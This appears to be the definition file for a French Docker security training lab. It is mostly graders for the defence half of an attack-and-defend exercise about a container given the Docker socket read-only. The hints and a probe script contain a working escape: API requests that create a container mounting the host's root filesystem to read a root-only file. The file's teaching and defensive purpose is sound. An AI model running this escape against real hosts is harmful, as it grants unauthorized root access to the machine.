import { failed, passed, quote, waiting, type FailedVerdict, type Verdict, type WaitingVerdict } from '../check.ts';
import {
  baselineContainer,
  container,
  exceedsOrdinary,
  interruptionOf,
  runningContainer,
  type RunningContainer,
} from '../facts.ts';
import { defineLab } from '../lab.ts';
import type { ContainerFacts, Observation } from '../observation.ts';

const MONITOR = 'supervision';
const SERVICE = 'boutique';
const FILTER_IMAGE = 'labo/filtre:1';
const FLAG_FILE = '/root/drapeau';
const FLAG = 'drapeau';
/** Folders and files of the host through which a mount hands over the engine's socket. */
const WAYS_TO_SOCKET = ['/', '/run', '/var', '/var/run', '/run/docker.sock', '/var/run/docker.sock'];

/** The monitor's work, then an empty creation order on each way to an engine; an engine alone answers 400 to it. */
const WORK_THEN_ATTACK = `superviser une-fois; echo "travail $?"
ordonner() { voie=$1; shift; echo "ordre $(curl -s -o /dev/null -w '%{http_code}' --max-time 1 -H 'Content-Type: application/json' -d '{}' "$@/containers/create") $voie"; }
case $SOURCE in http*) ordonner "$SOURCE" "$SOURCE" ;; esac
for m in $(awk '{print $5}' /proc/self/mountinfo); do for s in "$m" "$m/docker.sock" "$m/run/docker.sock"; do
if [ -S "$s" ]; then ordonner "$s" --unix-socket "$s" http://docker; fi; done; done`;

export default defineLab({
  id: 'la-cle-sous-le-paillasson',
  title: 'La clé sous le paillasson',
  chapter: 'attaques',
  order: 1,
  kind: 'attaquer-defendre',
  difficulty: 3,
  minutes: 25,
  summary:
    'Depuis un conteneur qui n’a que le socket de Docker « en lecture seule », lire un fichier de root sur l’hôte, puis fermer ce chemin sans éteindre la supervision.',
  scenario: `Le conteneur \`supervision\` compte les conteneurs en marche et l’écrit dans son journal. Pour cela, on lui a prêté le socket de Docker :

\`\`\`sh
docker run -d --name supervision -v /var/run/docker.sock:/var/run/docker.sock:ro labo/supervision:1
\`\`\`

« En lecture seule, il ne risque rien », dit la note d’installation. Son image contient \`curl\`, et vous venez d’y obtenir un shell.

**Attaquez.** Sans autre outil que ceux de \`supervision\`, lisez \`/root/drapeau\`, un fichier **de l’hôte** que seul son root peut lire. Saisissez ce qu’il contient : cette preuve reste acquise après la défense.

**Défendez.** Recréez \`supervision\`, sous le même nom et depuis la même image : elle ne doit plus pouvoir donner d’ordre au moteur, par aucun chemin, et doit continuer de compter. Sa variable \`SOURCE\` dit à qui demander la liste : \`unix:///chemin/du/socket\`, \`http://nom:port\`, ou \`file:///dossier\` (elle y lit \`containers/json\`). L’équipe de la plateforme tient prête une image, \`labo/filtre:1\` : son programme, \`/bin/filtrer\`, fait une vingtaine de lignes ; lisez-le avant de lui confier quoi que ce soit.

Qui tient encore le socket ne doit être joignable que de \`supervision\`. La \`boutique\`, elle, ne doit pas être interrompue, et ne demande rien au moteur.`,
  hints: [
    'L’API de Docker est du HTTP : `docker exec supervision curl -s --unix-socket /var/run/docker.sock http://docker/version`. Une lecture passe ; essayez un `POST`.',
    'Créez par l’API (`POST /containers/create`, puis `/start` et `/logs?stdout=1`) un conteneur de `labo/base:1` qui monte `/`. Pour la défense, `docker run --rm labo/filtre:1 cat /bin/filtrer` montre ce que le filtre laisse passer, et comment il écoute.',
    'Le corps de la création : `{"Image":"labo/base:1","Tty":true,"Cmd":["cat","/hote/root/drapeau"],"HostConfig":{"Binds":["/:/hote"]}}`. La défense : un réseau à eux deux, `filtre` avec le socket et sans port publié, `supervision` sans le socket, avec `SOURCE=http://filtre:2375`.',
  ],
  reads: {
    files: [FLAG_FILE],
    probes: { supervision: { container: MONITOR, command: ['sh', '-c', WORK_THEN_ATTACK] } },
  },
  checks: [
    {
      id: 'drapeau-lu',
      title: 'Vous avez lu un fichier du root de l’hôte par le socket prêté',
      section: 'le-socket-prete',
      references: { attack: ['T1552.007', 'T1610', 'T1611'] },
      answer: { key: FLAG, label: 'Contenu de /root/drapeau', placeholder: '16 chiffres hexadécimaux' },
      evaluate: judgeFlag,
    },
    {
      id: 'plus-aucun-ordre',
      title: 'La supervision ne peut plus donner d’ordre au moteur',
      section: 'le-socket-prete',
      references: { anssi: ['R1', 'R15'], cis: ['5.32'], attack: ['T1610', 'T1611'] },
      evaluate(observation) {
        const monitor = replacedMonitor(observation);
        if ('status' in monitor) return monitor;
        return (
          ordersPass(observation, monitor) ??
          passed(`Rejouée dans ${quote(MONITOR)}, l’attaque n’obtient rien : aucun chemin n’y mène au moteur.`)
        );
      },
    },
    {
      id: 'supervision-au-travail',
      title: 'La supervision compte toujours les conteneurs',
      section: 'prouver-la-defense',
      evaluate(observation) {
        const monitor = replacedMonitor(observation);
        return 'status' in monitor ? monitor : judgeWork(observation, monitor);
      },
    },
    {
      id: 'socket-garde',
      title: 'Qui tient encore le socket n’est joignable que de la supervision',
      section: 'le-socket-prete',
      references: { anssi: ['R1', 'R5'], cis: ['5.32'], attack: ['T1552.007'] },
      evaluate(observation) {
        const monitor = replacedMonitor(observation);
        return 'status' in monitor ? monitor : judgeHolders(observation);
      },
    },
    {
      id: 'boutique-intacte',
      title: 'La boutique n’a pas été interrompue',
      section: 'prouver-la-defense',
      evaluate(observation) {
        const what = interruptionOf(observation, SERVICE);
        if (what) {
          return failed({
            expected: `${quote(SERVICE)} en marche depuis le début.`,
            observed: `${quote(SERVICE)} ${what}.`,
            mechanism:
              'Elle n’avait rien à se reprocher : seul le chemin de la supervision vers le moteur devait changer. Réinitialisez le bac pour repartir d’un service intact.',
            see: `docker inspect -f '{{.Created}} {{.State.StartedAt}}' ${SERVICE}`,
          });
        }
        const monitor = replacedMonitor(observation);
        return 'status' in monitor
          ? waiting('À juger quand la supervision aura été recréée.')
          : passed(`${quote(SERVICE)} est en marche sans interruption.`);
      },
    },
  ],
});

function judgeFlag(o: Observation): Verdict {
  const answer = (o.answers[FLAG] ?? '').toLowerCase();
  if (!answer) return waiting('Saisissez le contenu du drapeau.');
  const flag = o.files[FLAG_FILE]?.trim();
  if (!flag) return waiting(`Le fichier ${FLAG_FILE} n’est plus là : réinitialisez le bac pour le retrouver.`);
  if (answer === flag) {
    return passed(`${quote(flag)} : un conteneur sans privilège a lu un fichier que seul le root de l’hôte peut lire.`);
  }
  return failed({
    expected: `Le contenu du fichier ${FLAG_FILE} de l’hôte.`,
    observed: `${quote(answer)} n’est pas ce contenu.`,
    mechanism:
      'Le dossier /root de la supervision est celui de son image. Celui de l’hôte s’atteint par un autre conteneur, que le moteur crée avec le disque de l’hôte monté.',
    see: `docker exec ${MONITOR} curl -s --unix-socket /var/run/docker.sock http://docker/version`,
  });
}

/** The monitor that took the place of the prepared one. */
function replacedMonitor(o: Observation): RunningContainer | FailedVerdict | WaitingVerdict {
  const found = container(o, MONITOR);
  return found && found.id === baselineContainer(o, MONITOR)?.id
    ? waiting(`${quote(MONITOR)} est encore celle du départ. Attaquez d’abord, défendez ensuite.`)
    : runningContainer(o, MONITOR);
}

const socketMount = ({ mounts }: ContainerFacts): ContainerFacts['mounts'][number] | undefined =>
  mounts.find(({ type, source }) => type === 'bind' && WAYS_TO_SOCKET.includes(source.replace(/(?<=.)\/+$/, '')));

function ordersPass(o: Observation, { container: monitor, process }: RunningContainer): Verdict | undefined {
  const refuse = (observed: string, mechanism: string, see: string): FailedVerdict =>
    failed({ expected: 'Une supervision sans aucun chemin d’écriture vers le moteur.', observed, mechanism, see });

  const mount = socketMount(monitor);
  if (mount) {
    return refuse(
      `${quote(mount.source)} est monté dans ${quote(MONITOR)}${mount.writable ? '' : ', en lecture seule'}.`,
      mount.source.endsWith('docker.sock')
        ? 'La lecture seule interdit de remplacer le fichier du socket. Elle ne regarde pas ce qui passe dedans : une demande de création y passe comme une autre, vous venez de le faire.'
        : 'Le socket est un fichier de ce dossier : monter le dossier, c’est monter le socket.',
      `docker inspect -f '{{json .Mounts}}' ${MONITOR}`,
    );
  }
  if (monitor.host.privileged || exceedsOrdinary(process.capEffective)) {
    return refuse(
      `${quote(MONITOR)} a plus de pouvoirs qu’un conteneur ordinaire : CapEff ${process.capEffective}.`,
      'Lire une liste n’en demande aucun. Avec eux, d’autres chemins s’ouvrent vers l’hôte, donc vers son moteur.',
      `grep CapEff /proc/$(docker inspect -f '{{.State.Pid}}' ${MONITOR})/status`,
    );
  }
  const report = o.probes['supervision'];
  if (!report || !/^travail \d+$/m.test(report.output)) return waiting('L’attaque n’a pas encore pu être rejouée.');
  const route = /^ordre 400 (?<route>.*)$/m.exec(report.output)?.groups?.['route'];
  if (route === undefined) return undefined;
  return refuse(
    `Une demande de création, envoyée de ${quote(MONITOR)} par ${quote(route)}, arrive au moteur.`,
    'Il l’examine et répond 400, parce qu’elle est vide : une demande complète serait exécutée. Un relais qui transmet tout vaut le socket lui-même.',
    `docker exec ${MONITOR} sh -c 'curl -s -d "{}" -H "Content-Type: application/json" ${
      /^\/[\w./-]{1,80}$/.test(route) ? `--unix-socket ${route} http://docker` : '$SOURCE'
    }/containers/create'`,
  );
}

function judgeWork(o: Observation, { process }: RunningContainer): Verdict {
  const refuse = (observed: string, mechanism: string): FailedVerdict =>
    failed({
      expected: 'Le programme de la supervision en marche, et un nombre de conteneurs dans son journal.',
      observed,
      mechanism,
      see: `docker logs --tail 3 ${MONITOR}`,
    });
  if (!process.commandLine.includes('superviser')) {
    return refuse(
      `${quote(MONITOR)} exécute ${quote(process.commandLine)}.`,
      'Ce n’est pas le programme de la supervision : plus rien n’est compté.',
    );
  }
  const output = o.probes['supervision']?.output ?? '';
  const count = Number(/^(?<count>\d+) conteneurs en marche$/m.exec(output)?.groups?.['count'] ?? 0);
  if (count > 0) return passed(`${quote(MONITOR)} compte ${count} conteneurs en marche.`);
  return /^travail [1-9]/m.test(output)
    ? refuse(
        `Dans ${quote(MONITOR)}, la source ne répond pas.`,
        'Retirer le socket suffit à protéger l’hôte, mais rend la supervision aveugle. Il lui faut une autre source, qui donne la liste et rien de plus.',
      )
    : waiting('Le travail de la supervision n’a pas encore pu être vérifié.');
}

function judgeHolders(o: Observation): Verdict {
  const refuse = (observed: string, mechanism: string, see: string): FailedVerdict =>
    failed({
      expected: 'Un socket que personne ne tient, ou un filtre seul avec la supervision.',
      observed,
      mechanism,
      see,
    });

  const holders = o.engine.containers.filter((c) => c.state.running && c.name !== MONITOR && socketMount(c));
  for (const holder of holders) {
    const name = quote(holder.name);
    if (holder.image !== FILTER_IMAGE) {
      return refuse(
        `${name} tient le socket : ${quote(socketMount(holder)?.source ?? '')} y est monté.`,
        'Renommer l’ancien conteneur ou en lancer un autre déplace la clé sans la reprendre : qui entre là commande à l’hôte.',
        "docker ps -q | xargs docker inspect -f '{{.Name}} {{json .HostConfig.Binds}}'",
      );
    }
    const published = holder.ports[0];
    if (published) {
      return refuse(
        `${name} est publié sur le port ${quote(published.hostPort)} de l’hôte.`,
        'Un port publié se joint de partout où l’hôte se joint : la liste de vos conteneurs n’a rien à y faire. Sur un réseau commun, deux conteneurs se parlent sans rien publier.',
        `docker port ${holder.name.replace(/[^\w.-]/g, '')}`,
      );
    }
    const intruder = o.engine.containers.find(
      (c) => c.state.running && c.name !== MONITOR && c.id !== holder.id && shareNetwork(c, holder),
    );
    if (intruder) {
      return refuse(
        `${quote(intruder.name)} partage un réseau avec ${name}.`,
        'Le réseau par défaut réunit tous les conteneurs qui n’en demandent pas d’autre : la boutique, une fois prise, interrogerait le filtre à son tour. Un réseau par liaison, et seulement pour elle.',
        "docker ps -q | xargs docker inspect -f '{{.Name}} {{range $n, $_ := .NetworkSettings.Networks}}{{$n}} {{end}}'",
      );
    }
  }
  return passed(
    holders[0]
      ? `Seul ${quote(holders[0].name)} tient le socket, seul avec la supervision.`
      : 'Aucun conteneur ne tient plus le socket.',
  );
}

const shareNetwork = (a: ContainerFacts, b: ContainerFacts): boolean =>
  a.networks.some(({ name }) => name !== 'none' && b.networks.some((other) => other.name === name));
